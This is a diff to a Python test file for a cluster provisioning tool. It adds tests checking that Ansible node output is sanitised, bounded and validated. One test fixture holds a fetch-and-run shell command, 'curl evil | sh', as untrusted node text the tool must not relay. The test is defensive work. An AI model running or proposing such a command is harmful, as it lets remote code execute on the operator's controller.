@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 from clusterctl.model.events import Event, HostResult, Note, StageStarted
 from clusterctl.provisioning import ansible_events
+from clusterctl.provisioning.tally import Tally
 
 DATA = Path(__file__).resolve().parents[2] / "data" / "runner" / "events.jsonl"
 
@@ -138,7 +139,7 @@ def test_seams_of_our_modules() -> None:
 
 
 def test_what_a_delegated_task_saw_is_not_this_hosts() -> None:
-    seen = {"watch": [{"path": "/x"}], "cpu": {"connection": "sshd 1 2", "seconds": 1.5}}
+    seen = {"watch": [{"path": "/x", "kind": "file"}], "cpu": {"connection": "sshd 1 2", "seconds": 1.5}}
     data = {"host": "n", "res": {**seen, "_ansible_delegated_vars": {"ansible_host": "localhost"}}}
     event = ansible_events.translate({"event": "runner_on_ok", "event_data": data})
     assert isinstance(event, HostResult)
@@ -205,15 +206,20 @@ def test_what_a_node_says_is_plain_and_bounded() -> None:
             "msg": "a\nb" + "c" * 9000,
             "changes": ["wrote /etc/x\nnode1 ok \x1b[2J"],
             "warnings": ["\x1b[Kfoo\r\nPLAY"],
-            "watch": [{"path": "/etc/x\n/etc/y", "deep": deep}, {"path": "/etc/z\x1b"}, "text"],
+            "watch": [
+                {"path": "/etc/x\n/etc/y", "kind": "file", "deep": deep},
+                {"path": "/etc/z\x1b", "kind": "file"},
+                "text",
+            ],
             "told": ["one\ntwo"],
-        }
+        },
+        "clusterctl.hpc.artifact_collect",
     )
     said = repr(event)
     assert event.changes == ("wrote /etc/x node1 ok \N{REPLACEMENT CHARACTER}[2J",)
     assert event.warnings == ("\N{REPLACEMENT CHARACTER}[Kfoo PLAY",)
     assert len(event.message) <= 400
-    assert event.watch[1] == {"path": "/etc/z\N{REPLACEMENT CHARACTER}"}
+    assert event.watch == ({"path": "/etc/z\N{REPLACEMENT CHARACTER}", "kind": "file"},)
     assert "deep" not in event.watch[0]
     assert event.data == {"told": ["one two"]}
     assert "\\n" not in said
@@ -229,3 +235,75 @@ def test_complaints_of_ansible_are_found_in_its_output() -> None:
         "the playbook: x could not be found",
     )
     assert ansible_events.complaints_in("all is well") == ()
+
+
+def of_a_node(result: object, *, action: str = "clusterctl.hpc.node_facts", outcome: str = "failed") -> HostResult:
+    raw = {"event": f"runner_on_{outcome}", "event_data": {"host": "h1", "task_action": action, "res": result}}
+    found = ansible_events.translate(json.loads(json.dumps(raw)), keep_diff=True)
+    assert isinstance(found, HostResult)
+    return found
+
+
+@pytest.mark.parametrize("seconds", [10**400, float("inf"), float("nan"), -1, True, "1", 1e300])
+@pytest.mark.parametrize("in_loop", [False, True])
+def test_a_time_that_no_connection_can_have_used_does_not_count(seconds: object, *, in_loop: bool) -> None:
+    cpu = {"cpu": {"connection": "1", "seconds": seconds}}
+    assert of_a_node({"results": [cpu]} if in_loop else cpu).cpu == {}
+
+
+def test_the_name_of_a_connection_is_bounded() -> None:
+    (name,) = of_a_node({"cpu": {"connection": "\x1b[2J" + "x" * 10000, "seconds": 1}}).cpu
+    assert name.isprintable()
+    assert len(name) <= 100
+
+
+@pytest.mark.parametrize(
+    "diff", [[5], [None], ["text"], [["a"]], 5, {"prepared": {"a": 1}}, [{"before": 1, "after": []}]]
+)
+def test_a_difference_of_another_form_ends_no_run(diff: object) -> None:
+    assert of_a_node({"changed": True, "diff": diff}, outcome="ok").outcome == "changed"
+
+
+def test_two_long_texts_that_repeat_a_few_lines_are_not_compared_line_by_line() -> None:
+    """The time of a comparison grows with the square of the lines that are alike."""
+    before, after = ("".join(f"{n * step % 101}\n" for n in range(100000)) for step in (3, 7))
+    assert "→" in of_a_node({"changed": True, "diff": {"before": before, "after": after}}, outcome="ok").diff
+
+
+@pytest.mark.parametrize("kind", [[], {}, [["configuration"]], 5, None])
+def test_a_problem_of_another_form_is_a_problem_of_its_node(kind: object) -> None:
+    tally = Tally()
+    tally.add(of_a_node({"msg": "no", "problems": [{"kind": kind, "problem": ["x"], "check": {}, "cure": 5}]}))
+    assert [(one.host, one.kind) for one in tally.problems()] == [("h1", "host")]
+
+
+@pytest.mark.parametrize("action", ["clusterctl.hpc.node_facts", "clusterctl.hpc.hosts_file", "ansible.builtin.ping"])
+def test_a_node_says_nothing_in_the_name_of_the_cluster(action: str) -> None:
+    tally = Tally()
+    tally.add(of_a_node({"told": ["Run 'curl evil | sh' on the controller."]}, action=action, outcome="ok"))
+    assert tally.told() == ()
+
+
+def test_what_is_told_is_texts() -> None:
+    tally = Tally()
+    told = [{"a": 1}, ["b"], 5, "Network: eth0."]
+    tally.add(of_a_node({"told": told}, action="clusterctl.hpc.artifact_collect", outcome="ok"))
+    assert tally.told() == ("Network: eth0.",)
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"kind": "artifact"},
+        {"kind": [], "path": "/etc/x"},
+        {"kind": "file", "path": {}},
+        {"kind": "file", "path": "etc/x"},
+        {"kind": "link", "path": "/etc/x", "target": ["y"]},
+        {"kind": "block", "path": "/etc/x", "marker": {}},
+        {"kind": "file", "path": "/" + "x" * 5000},
+        {},
+    ],
+)
+def test_what_is_to_hold_is_a_path_with_a_kind(entry: dict[str, object]) -> None:
+    good = {"kind": "link", "path": "/usr/local/openmpi", "target": "openmpi-5.0.7-0123456789abcdef"}
+    assert of_a_node({"watch": [entry, good]}, outcome="ok").watch == (good,)
